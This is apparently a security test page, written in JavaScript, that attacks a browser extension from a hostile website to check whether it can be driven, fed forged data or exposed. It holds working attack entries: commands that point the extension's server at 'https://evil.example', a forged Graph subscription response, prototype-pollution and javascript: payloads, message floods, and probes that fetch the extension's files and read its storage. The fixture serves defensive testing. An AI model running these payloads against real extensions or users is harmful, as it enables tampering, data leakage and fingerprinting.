// A page that wants the extension to act, to store what is not so, or to show itself. Each attack is one entry; `seen`
// collects what the page could learn. Nothing in here may have an effect on our side but evidence about this page itself.
const id = new URL(location.href).searchParams.get('extension')
const own = `chrome-extension://${id}`
const seen = []
const learn = (what) => seen.push(what)

addEventListener('message', (event) => learn(`message ${JSON.stringify(event.data)}`))
for (const name of ['tap-offer', 'tap-wanted', `${id}:page-tap:wxt:content-script-started`])
  for (const target of [globalThis, document]) target.addEventListener(name, () => learn(`event ${name}`))

const subscription = { skuPartNumber: 'FORGED', skuId: 'cbdc14ab-d96c-4c30-b9f4-6ada7cdc1d46', consumedUnits: 1 }
const text = JSON.stringify({ value: [subscription] })
const report = { kind: 'response', url: 'https://graph.microsoft.com/v1.0/subscribedSkus', body: text }
const names = [
  'openSession',
  'submitMaterial',
  'endSession',
  'syncNow',
  'connectServer',
  'disconnectServer',
  'refreshAccess',
]
const commands = names.map((name) => ({ name, body: { url: 'https://evil.example', deviceName: 'x' } }))

/** Offers a port as our tap does, and speaks on it. */
const offer = (...data) => {
  const { port1, port2 } = new MessageChannel()
  port1.onmessage = (event) => learn(`port ${JSON.stringify(event.data)}`)
  dispatchEvent(new MessageEvent('tap-offer', { ports: [port2] }))
  for (const each of data) port1.postMessage(each)
}

const frame = (src) =>
  new Promise((resolve) => {
    const made = document.createElement('iframe')
    made.src = src
    made.onload = resolve
    document.body.append(made)
    setTimeout(resolve, 500)
  })

const attacks = {
  ...Object.fromEntries(
    commands.map((command) => [`posts ${command.name} to the window`, () => postMessage(command, '*')]),
  ),
  ...Object.fromEntries(
    commands.map((command) => [`sends ${command.name} on a port of its own`, () => offer(command)]),
  ),
  'posts a report to the window': () => postMessage(report, '*'),
  'posts a report 1,000 times': () => {
    for (let at = 0; at < 1000; at++) postMessage({ ...report, url: `${report.url}?${at}` }, '*')
  },
  'offers a port and reports': () =>
    offer(report, { kind: 'dropped', url: report.url }, { kind: 'refused', url: report.url, status: 401 }),
  'offers a port and reports 1,000 times': () => offer(...Array.from({ length: 1000 }, () => report)),
  'reports of an address that is no web address': () =>
    offer({ ...report, url: 'chrome://settings' }, { ...report, url: 'javascript:alert(1)' }),
  'reports with a field too many': () => offer({ ...report, session: 'x', client: 'y' }),
  'reports things that are not text': () =>
    offer({ ...report, text: { toString: 'x' } }, { ...report, text: 7 }, null, 7, [], 'x'),
  'reports 9 MB': () => offer({ ...report, text: 'x'.repeat(9 * 1024 * 1024) }),
  'reports with magic keys': () =>
    offer(JSON.parse(`{"__proto__":{"p":1},"kind":"response","url":"https://x.example/","text":"{}"}`)),
  'asks for the port': () => dispatchEvent(new Event('tap-wanted')),
  'asks for the port on the document': () => document.dispatchEvent(new Event('tap-wanted')),
  'starts the content script of another version': () =>
    document.dispatchEvent(
      new CustomEvent(`${id}:admin-console:wxt:content-script-started`, {
        detail: { contentScriptName: 'admin-console', messageId: '1' },
      }),
    ),
  'sends to the extension by its id': async () => {
    for (const command of commands) await globalThis.chrome?.runtime?.sendMessage?.(id, command)
  },
  'connects to the extension by its id': () => globalThis.chrome?.runtime?.connect?.(id),
  'fetches a file of the extension': async () => {
    for (const file of ['manifest.json', 'popup.html', 'practice-pairing.json', 'content-scripts/page-tap.js'])
      await fetch(`${own}/${file}`).then(
        (response) => response.ok && learn(`fetched ${file}`),
        () => undefined,
      )
  },
  'loads a script of the extension': () =>
    new Promise((resolve) => {
      const made = document.createElement('script')
      made.onload = () => resolve(learn('script loaded'))
      made.onerror = resolve
      made.src = `${own}/background.js`
      document.head.append(made)
    }),
  'frames the popup': () => frame(`${own}/popup.html`),
  'frames the review': () => frame(`${own}/review.html`),
  'opens the popup': () => {
    const opened = open(`${own}/popup.html`)
    if (opened && opened.location.href !== 'about:blank') learn('opened the popup')
    opened?.close()
  },
  'looks for a trace in errors that pass through the methods': async () => {
    for (const method of [Response.prototype.json, XMLHttpRequest.prototype.send])
      try {
        await method.call({})
      } catch (error) {
        if (error.stack.includes(id)) learn(`stack ${error.stack}`)
      }
  },
  'looks for a trace in what it is called by': async () => {
    Object.prototype.toJSON = function () {
      const { stack } = new Error('who calls?')
      if (stack.includes(id)) learn(`stack ${stack}`)
      return this
    }
    await new Promise((resolve) => {
      const request = new XMLHttpRequest()
      request.open('GET', '/mine.json')
      request.responseType = 'json'
      request.onloadend = resolve
      request.send()
    })
    await new Promise((resolve) => setTimeout(resolve, 100))
    delete Object.prototype.toJSON
  },
  'looks for globals': () => {
    for (const name of Object.getOwnPropertyNames(globalThis))
      if (/stocktake|pageTap|adminConsole|wxt/i.test(name)) learn(`global ${name}`)
  },
  'makes responses of its own': async () => {
    const made = new Response(text, { headers: { 'content-type': 'application/json' } })
    Object.defineProperty(made, 'url', { value: report.url })
    await made.json()
  },
  'shows another address for its responses': async () => {
    const response = await fetch('/mine.json')
    Object.defineProperty(response, 'url', { value: report.url })
    await response.json()
  },
  'reports by a message event that it makes itself': () => {
    for (const target of [globalThis, document]) target.dispatchEvent(new MessageEvent('message', { data: report }))
  },
  'reads the storage of the extension': async () => {
    for (const { name } of await indexedDB.databases()) if (name === 'stocktake') learn('database')
  },
  'clicks whatever there is': () => {
    for (const each of document.querySelectorAll('*'))
      if (each instanceof HTMLElement && each.tagName !== 'IFRAME') each.click()
  },
}

async function run() {
  for (const [name, attack] of Object.entries(attacks)) {
    try {
      await attack()
    } catch {
      learn(`${name} threw`)
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 500))
  // What it posted to itself comes back to itself; that tells nothing.
  const mine = new Set([...commands, report].map((each) => `message ${JSON.stringify(each)}`))
  const learned = seen.filter(
    (each) => !mine.has(each) && !/subscribedSkus\?\d+|^event tap-|content-script-started/.test(each),
  )
  return { count: Object.keys(attacks).length, learned: [...new Set(learned)] }
}

run().then((done) => {
  globalThis.done = done
})
